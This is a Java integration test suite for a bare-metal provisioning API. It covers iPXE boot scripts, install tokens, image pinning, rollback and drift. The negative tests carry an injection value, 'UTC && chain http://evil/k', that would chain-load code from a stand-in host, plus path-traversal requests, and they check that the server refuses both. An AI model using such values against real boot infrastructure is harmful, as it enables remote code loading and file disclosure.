package org.rackboot.api.boot;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.rackboot.api.testsupport.ApiTest;
import org.rackboot.api.testsupport.AppConfig;
import org.rackboot.api.testsupport.Fixtures;
import org.rackboot.api.testsupport.Names;
import org.rackboot.api.testsupport.RunningApp;
import org.rackboot.api.testsupport.RunningApp.Resp;

/**
 * The HTTP side of the boot flow over real HTTP, on H2 and MariaDB: the per-host iPXE script by
 * state, the installer's plan, progress, result and check-in with the one-time token, drift after
 * a rollback, and the bad inputs of the boot flow.
 */
@AppConfig({"boot.agentDir=target/test-agent", "boot.idleAction=discovery",
    "boot.templateDir=target/test-templates"})
class BootFlowApiTest {

  private static final Pattern TOKEN = Pattern.compile("rackboot\\.token=(\\S+)");

  private static void agentFiles() throws Exception {
    Path dir = Path.of("target/test-agent");
    Files.createDirectories(dir);
    Files.writeString(dir.resolve("vmlinuz"), "kernel");
    Files.writeString(dir.resolve("initrd.img"), "initrd");
  }

  /** Uploads one disk artifact and publishes image NAME VERSION with it. */
  static void publishImage(RunningApp app, String name, String version, byte[] disk) throws Exception {
    String sha = HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(disk));
    HttpResponse<String> up = HttpClient.newHttpClient().send(
        HttpRequest.newBuilder(URI.create(app.baseUri() + "/api/v1/images/_blobs/" + sha))
            .header("Authorization", "Bearer " + app.adminToken())
            .header("Content-Type", "application/octet-stream")
            .PUT(HttpRequest.BodyPublishers.ofByteArray(disk)).build(),
        HttpResponse.BodyHandlers.ofString());
    assertThat(up.statusCode()).as(up.body()).isBetween(200, 299);
    Resp pub = app.post("/api/v1/images", Map.of("name", name, "version", version, "os", "linux",
        "arch", "x86_64", "artifacts",
        List.of(Map.of("name", "disk.img", "part", "disk", "sha256", sha, "size", disk.length))));
    assertThat(pub.status()).as(pub.toString()).isEqualTo(201);
  }

  private static String script(RunningApp app, String mac) {
    Resp r = app.call("GET", "/boot/ipxe?mac=" + mac, null, null);
    assertThat(r.status()).as(r.toString()).isEqualTo(200);
    return r.raw();
  }

  private static String token(String script) {
    Matcher m = TOKEN.matcher(script);
    assertThat(m.find()).as(script).isTrue();
    return m.group(1);
  }

  @ApiTest
  void discoveryInstallLocalBootRollbackAndDrift(RunningApp app) throws Exception {
    agentFiles();
    String env = Fixtures.environment(app);
    String mac = Names.mac();
    String roleName = Names.name("web");

    // Unknown machine: the discovery agent with a token bound to its MAC, never the shared
    // discovery secret.
    String unknown = script(app, mac.toUpperCase().replace(':', '-'));
    assertThat(unknown).startsWith("#!ipxe\n").contains("rackboot.mode=discover")
        .contains("rackboot.discovery_token=rbd_")
        .doesNotContain(RunningApp.DISCOVERY_TOKEN)
        .contains("/boot/agent/vmlinuz").contains("/boot/agent/initrd.img");
    Matcher bound = Pattern.compile("rackboot\\.discovery_token=(\\S+)").matcher(unknown);
    assertThat(bound.find()).isTrue();

    // The agent reports with it; the host exists as discovered.
    Resp disc = app.call("POST", "/api/v1/discovery", bound.group(1),
        Map.of("macs", List.of(mac), "dmi", Map.of("product_serial", Names.name("SER-"))));
    assertThat(disc.status()).as(disc.toString()).isBetween(200, 201);
    String id = disc.body().get("id").asText();
    assertThat(script(app, mac)).contains("rackboot.mode=discover");

    // Two published versions; the role pins v2.
    publishImage(app, "base", "1", "disk image version one".getBytes(StandardCharsets.UTF_8));
    publishImage(app, "base", "2", "disk image version two".getBytes(StandardCharsets.UTF_8));
    Resp role = app.post("/api/v1/roles",
        Map.of("environment", env, "name", roleName, "imageName", "base", "imageVersion", "1"));
    assertThat(role.status()).as(role.toString()).isEqualTo(201);
    assertThat(app.call("PUT", "/api/v1/pins/" + roleName + "/" + env, app.adminToken(),
        Map.of("image", "base", "version", "1")).status()).isEqualTo(200);
    assertThat(app.call("PUT", "/api/v1/pins/" + roleName + "/" + env, app.adminToken(),
        Map.of("image", "base", "version", "2")).status()).isEqualTo(200);
    assertThat(app.call("PUT", "/api/v1/hosts/" + id + "/role", app.adminToken(),
        Map.of("environment", env, "role", roleName)).status()).isEqualTo(200);
    assertThat(app.call("POST", "/api/v1/hosts/" + id + "/rebuild", app.adminToken(), null)
        .status()).isEqualTo(200);

    // Provisioning: the install script carries a fresh token; the plan lists the pinned image.
    String install = script(app, mac);
    assertThat(install).contains("rackboot.mode=install").contains("rackboot.host=" + id);
    String tok = token(install);
    String base = "/api/v1/provision/" + id;
    Resp plan = app.call("GET", base + "/plan", tok, null);
    assertThat(plan.status()).as(plan.toString()).isEqualTo(200);
    assertThat(plan.raw()).startsWith("image base 2\ntarget auto\nartifact disk ")
        .contains("/files/blobs/");

    assertThat(app.call("POST", base + "/progress", tok,
        Map.of("phase", "download", "percent", 50, "message", "half")).status()).isEqualTo(200);
    Resp done = app.call("POST", base + "/result", tok, Map.of("status", "succeeded", "image", "base:2"));
    assertThat(done.status()).as(done.toString()).isEqualTo(200);
    assertThat(done.body().get("state").asText()).isEqualTo("deployed");
    assertThat(done.body().get("runningImage").get("version").asText()).isEqualTo("2");

    // Deployed: told to boot from its disk.
    assertThat(script(app, mac)).contains("is deployed, booting from local disk").endsWith("exit\n");
    assertThat(drifted(app, env)).isEmpty();
    assertHostListAgrees(app, env, id, true, "2");

    // Rollback: the pin goes back to v1, the host is in the drift list.
    assertThat(app.call("POST", "/api/v1/pins/" + roleName + "/" + env + "/rollback",
        app.adminToken(), null).status()).isEqualTo(200);
    assertThat(drifted(app, env)).containsExactly(id);
    // The host record and the filtered host list agree with the drift list: the pin decides
    // what a host should run, not the role's own image field.
    assertHostListAgrees(app, env, id, false, "1");

    // A rebuild installs v1 and brings it back in sync.
    assertThat(app.call("POST", "/api/v1/hosts/" + id + "/rebuild", app.adminToken(), null)
        .status()).isEqualTo(200);
    // The running system's token is spent at once: it cannot fake the new install's result
    // before the machine has even rebooted into it.
    assertThat(app.call("GET", base + "/plan", tok, null).status()).isEqualTo(403);
    assertThat(app.call("POST", base + "/result", tok,
        Map.of("status", "succeeded", "image", "base:2")).status()).isEqualTo(403);
    String tok2 = token(script(app, mac));
    assertThat(tok2).isNotEqualTo(tok);
    // The previous token is spent: a new install boot replaced it.
    assertThat(app.call("GET", base + "/plan", tok, null).status()).isEqualTo(403);
    assertThat(app.call("GET", base + "/plan", tok2, null).raw()).startsWith("image base 1\n");
    // A name longer than its column is refused naming the field (it was a 500).
    Resp long_ = app.call("POST", base + "/result", tok2,
        Map.of("status", "succeeded", "image", "b".repeat(250) + ":1"));
    assertThat(long_.status()).as(long_.toString()).isEqualTo(422);
    assertThat(long_.body().get("field").asText()).isEqualTo("image");
    Resp reinstalled = app.call("POST", base + "/result", tok2,
        Map.of("status", "succeeded", "image", "base:1"));
    assertThat(reinstalled.status()).as(reinstalled.toString()).isEqualTo(200);
    assertThat(drifted(app, env)).isEmpty();

    // The deployed host checks in with the image it runs, with the check-in token the result
    // answered with (the provisioning token died with the result).
    String checkInToken = reinstalled.header(ProvisionResource.CHECKIN_TOKEN_HEADER).orElseThrow();
    assertThat(checkInToken).startsWith("rbc_");
    Resp checkin = app.call("POST", base + "/checkin", checkInToken,
        Map.of("imageName", "base", "imageVersion", "1"));
    assertThat(checkin.status()).as(checkin.toString()).isEqualTo(200);

    // Every boot step is an event on the host.
    String[] steps = {"boot.install_started", "boot.install_succeeded", "boot.script",
        "boot.plan", "boot.progress"};
    assertThat(eventTypes(app, id, steps)).contains(steps);
  }

  /** The host's assigned image and inSync, on the host and in the filtered list. */
  private static void assertHostListAgrees(RunningApp app, String env, String id, boolean inSync,
      String assignedVersion) {
    JsonNode host = app.get("/api/v1/hosts/" + id).body();
    assertThat(host.get("inSync").asBoolean()).as(host.toString()).isEqualTo(inSync);
    assertThat(host.get("assignedImage").get("version").asText()).isEqualTo(assignedVersion);
    List<String> listed = new java.util.ArrayList<>();
    app.get("/api/v1/hosts?environment=" + env + "&inSync=" + inSync).body().get("items")
        .forEach(h -> listed.add(h.get("id").asText()));
    assertThat(listed).contains(id);
    listed.clear();
    app.get("/api/v1/hosts?environment=" + env + "&inSync=" + !inSync).body().get("items")
        .forEach(h -> listed.add(h.get("id").asText()));
    assertThat(listed).doesNotContain(id);
  }

  @ApiTest
  void badInputsOfTheBootFlow(RunningApp app) throws Exception {
    agentFiles();
    String env = Fixtures.environment(app);
    String roleName = Names.name("db");
    publishImage(app, "dbimg", "1", ("db image " + roleName).getBytes(StandardCharsets.UTF_8));
    app.post("/api/v1/roles",
        Map.of("environment", env, "name", roleName, "imageName", "dbimg", "imageVersion", "1"));
    String macA = Names.mac();
    String macB = Names.mac();
    String a = provisioning(app, env, roleName, macA);
    String b = provisioning(app, env, roleName, macB);
    String tokA = token(script(app, macA));
    String tokB = token(script(app, macB));

    // Another host's token, no token, a garbage token.
    assertThat(app.call("GET", "/api/v1/provision/" + a + "/plan", tokB, null).status()).isEqualTo(403);
    assertThat(app.call("POST", "/api/v1/provision/" + a + "/result", tokB,
        Map.of("status", "succeeded")).status()).isEqualTo(403);
    assertThat(app.call("GET", "/api/v1/provision/" + a + "/plan", null, null).status()).isEqualTo(401);
    // Nor does an API admin token stand in for the host's.
    assertThat(app.call("GET", "/api/v1/provision/" + a + "/plan", app.adminToken(), null).status())
        .isEqualTo(403);
    assertThat(hostState(app, a)).isEqualTo("provisioning");

    // A bad status names the field; nothing changes.
    Resp bad = app.call("POST", "/api/v1/provision/" + a + "/result", tokA, Map.of("status", "maybe"));
    assertThat(bad.status()).isEqualTo(422);
    assertThat(bad.body().get("field").asText()).isEqualTo("status");
    assertThat(hostState(app, a)).isEqualTo("provisioning");

    // A failed install: the host is failed and the event says why.
    Resp failed = app.call("POST", "/api/v1/provision/" + a + "/result", tokA,
        Map.of("status", "failed", "reason", "sha256 mismatch for disk"));
    assertThat(failed.status()).as(failed.toString()).isEqualTo(200);
    assertThat(failed.body().get("state").asText()).isEqualTo("failed");
    JsonNode events = app.get("/api/v1/hosts/" + a + "/events?type=boot.install_failed").body();
    assertThat(events.get("items").get(0).get("detail").asText()).contains("sha256 mismatch for disk");
    // A failed host waits, it does not reinstall in a loop.
    assertThat(script(app, macA)).contains("failed").contains("sleep 30");

    // A result for a host that is not provisioning: 409, nothing changed.
    Resp late = app.call("POST", "/api/v1/provision/" + a + "/result", tokA, Map.of("status", "succeeded"));
    assertThat(late.status()).isIn(403, 409);
    assertThat(hostState(app, a)).isEqualTo("failed");
    assertThat(hostState(app, b)).isEqualTo("provisioning");

    // Not a MAC.
    assertThat(app.call("GET", "/boot/ipxe?mac=not-a-mac", null, null).status()).isEqualTo(422);

    // Boot loaders over HTTP (UEFI HTTP boot): only loader names, only from tftp.root.
    assertThat(app.call("GET", "/boot/ipxe-missing.efi", null, null).status()).isEqualTo(404);
    Path tftpRoot = Files.createDirectories(app.work().resolve("tftp"));
    Files.writeString(tftpRoot.resolve("ipxe.efi"), "MZ efi binary");
    Resp efi = app.call("GET", "/boot/ipxe.efi", null, null);
    assertThat(efi.status()).as(efi.toString()).isEqualTo(200);
    assertThat(efi.raw()).isEqualTo("MZ efi binary");
    assertThat(app.call("GET", "/boot/..%2Frackboot.yml", null, null).status()).isIn(400, 404);
    assertThat(app.call("GET", "/boot/passwd", null, null).status()).isEqualTo(404);
  }

  /** Uploads {@code data} as a blob; returns its sha256. */
  static String upload(RunningApp app, byte[] data) throws Exception {
    String sha = HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(data));
    HttpResponse<String> up = HttpClient.newHttpClient().send(
        HttpRequest.newBuilder(URI.create(app.baseUri() + "/api/v1/images/_blobs/" + sha))
            .header("Authorization", "Bearer " + app.adminToken())
            .header("Content-Type", "application/octet-stream")
            .PUT(HttpRequest.BodyPublishers.ofByteArray(data)).build(),
        HttpResponse.BodyHandlers.ofString());
    assertThat(up.statusCode()).as(up.body()).isBetween(200, 299);
    return sha;
  }

  @ApiTest
  void anOsInstallerImageBootsItsOwnKernelWithTheRenderedTemplate(RunningApp app) throws Exception {
    String env = Fixtures.environment(app);
    String roleName = Names.name("ks");
    byte[] kernel = ("installer kernel " + roleName).getBytes(StandardCharsets.UTF_8);
    byte[] initrd = ("installer initrd " + roleName).getBytes(StandardCharsets.UTF_8);
    String ksha = upload(app, kernel);
    String isha = upload(app, initrd);
    Resp pub = app.post("/api/v1/images", Map.of("name", "alma", "version", roleName, "os", "linux",
        "arch", "x86_64", "bootArgs", "inst.ks={{templateUrl}} inst.text ip=dhcp",
        "artifacts", List.of(
            Map.of("name", "vmlinuz", "part", "kernel", "sha256", ksha, "size", kernel.length),
            Map.of("name", "initrd.img", "part", "initrd", "sha256", isha, "size", initrd.length))));
    assertThat(pub.status()).as(pub.toString()).isEqualTo(201);
    assertThat(app.post("/api/v1/roles", Map.of("environment", env, "name", roleName,
        "imageName", "alma", "imageVersion", roleName, "installTemplate", "kickstart.ks",
        "variables", Map.of("repo", "alma/9"))).status()).isEqualTo(201);
    String mac = Names.mac();
    String id = provisioning(app, env, roleName, mac);

    // The installer's own kernel and initrd from the image store, its boot arguments rendered
    // with the URL of this host's kickstart (token included, not HTML-escaped).
    String s = script(app, mac);
    assertThat(s).contains("kernel " + app.baseUri() + "/files/blobs/" + ksha + " initrd=initrd.img inst.ks="
            + app.baseUri() + "/boot/templates/" + id + "/kickstart.ks?token=rbp_")
        .contains("initrd --name initrd.img " + app.baseUri() + "/files/blobs/" + isha)
        .doesNotContain("rackboot.mode");
    Matcher m = Pattern.compile("token=(rbp_\\S+)").matcher(s);
    assertThat(m.find()).isTrue();
    String tok = m.group(1);

    Resp ks = app.call("GET", "/boot/templates/" + id + "/kickstart.ks?token=" + tok, null, null);
    assertThat(ks.status()).as(ks.toString()).isEqualTo(200);
    assertThat(ks.raw()).contains("url --url=" + app.baseUri() + "/repos/alma/9/")
        .contains("/api/v1/provision/" + id + "/result");
    assertThat(app.call("GET", "/boot/templates/" + id + "/kickstart.ks?token=wrong", null, null)
        .status()).isEqualTo(403);
    // What the kickstart's %post sends: the host is deployed with this image.
    Resp done = app.call("POST", "/api/v1/provision/" + id + "/result", tok,
        Map.of("status", "succeeded", "image", "alma:" + roleName));
    assertThat(done.status()).as(done.toString()).isEqualTo(200);
    assertThat(done.body().get("state").asText()).isEqualTo("deployed");
  }

  @ApiTest
  void aVariableThatIsNotOneKernelWordStopsTheBootWithTheReason(RunningApp app) throws Exception {
    String env = Fixtures.environment(app);
    String roleName = Names.name("inj");
    byte[] kernel = ("inj kernel " + roleName).getBytes(StandardCharsets.UTF_8);
    byte[] initrd = ("inj initrd " + roleName).getBytes(StandardCharsets.UTF_8);
    String ksha = upload(app, kernel);
    String isha = upload(app, initrd);
    Resp pub = app.post("/api/v1/images", Map.of("name", "injos", "version", roleName,
        "os", "linux", "arch", "x86_64",
        "bootArgs", "inst.ks={{templateUrl}} inst.tz={{vars.timezone}}",
        "artifacts", List.of(
            Map.of("name", "vmlinuz", "part", "kernel", "sha256", ksha, "size", kernel.length),
            Map.of("name", "initrd.img", "part", "initrd", "sha256", isha, "size", initrd.length))));
    assertThat(pub.status()).as(pub.toString()).isEqualTo(201);
    // One line, so the role is accepted; on the kernel line it would be a second iPXE command.
    Resp role = app.post("/api/v1/roles", Map.of("environment", env, "name", roleName,
        "imageName", "injos", "imageVersion", roleName, "installTemplate", "kickstart.ks",
        "variables", Map.of("repo", "alma/9", "timezone", "UTC && chain http://evil/k")));
    assertThat(role.status()).as(role.toString()).isEqualTo(201);
    String mac = Names.mac();
    String id = provisioning(app, env, roleName, mac);
    String s = script(app, mac);
    assertThat(s).contains("bootArgs of injos").contains("sleep 30")
        .doesNotContain("evil").doesNotContain("&&").doesNotContain("\nkernel ");
    assertThat(eventTypes(app, id, "boot.template_failed")).contains("boot.template_failed");
  }

  @ApiTest
  void aTemplateThatFailsToRenderGivesAWaitScriptAndAnEvent(RunningApp app) throws Exception {
    agentFiles();
    String env = Fixtures.environment(app);
    String roleName = Names.name("tpl");
    publishImage(app, "tplimg", "1", ("tpl " + roleName).getBytes(StandardCharsets.UTF_8));
    // A role may only name a template that exists; this one exists but does not compile.
    Path templates = Path.of("target/test-templates");
    Files.createDirectories(templates);
    Files.writeString(templates.resolve("broken-" + roleName), "{{#host}}never closed\n");
    Resp role = app.post("/api/v1/roles", Map.of("environment", env, "name", roleName,
        "imageName", "tplimg", "imageVersion", "1", "installTemplate", "broken-" + roleName));
    assertThat(role.status()).as(role.toString()).isEqualTo(201);
    String mac = Names.mac();
    String id = provisioning(app, env, roleName, mac);
    String s = script(app, mac);
    assertThat(s).contains("template broken-" + roleName + " failed to render").contains("sleep 30")
        .doesNotContain("rackboot.mode=install");
    assertThat(eventTypes(app, id, "boot.template_failed")).contains("boot.template_failed");
  }

  private static String provisioning(RunningApp app, String env, String role, String mac) {
    JsonNode h = Fixtures.host(app, mac);
    String id = h.get("id").asText();
    assertThat(app.call("PUT", "/api/v1/hosts/" + id + "/role", app.adminToken(),
        Map.of("environment", env, "role", role)).status()).isEqualTo(200);
    assertThat(app.call("POST", "/api/v1/hosts/" + id + "/rebuild", app.adminToken(), null)
        .status()).isEqualTo(200);
    return id;
  }

  private static String hostState(RunningApp app, String id) {
    return app.get("/api/v1/hosts/" + id).body().get("state").asText();
  }

  private static List<String> drifted(RunningApp app, String env) {
    Resp r = app.get("/api/v1/drift?environment=" + env);
    assertThat(r.status()).as(r.toString()).isEqualTo(200);
    return r.body().findValues("id").stream().map(JsonNode::asText).toList();
  }

  /**
   * The host's event types once every one of {@code expected} is among them, or after 10 s.
   * Boot events (script, plan, progress, ...) are written in the background, about a second
   * after they happen; inventory events at once.
   */
  private static List<String> eventTypes(RunningApp app, String id, String... expected)
      throws InterruptedException {
    List<String> types = List.of();
    for (int i = 0; i < 100; i++) {
      types = app.get("/api/v1/hosts/" + id + "/events?limit=500").body().findValues("type").stream()
          .map(JsonNode::asText).toList();
      if (types.containsAll(List.of(expected))) {
        break;
      }
      Thread.sleep(100);
    }
    return types;
  }
}
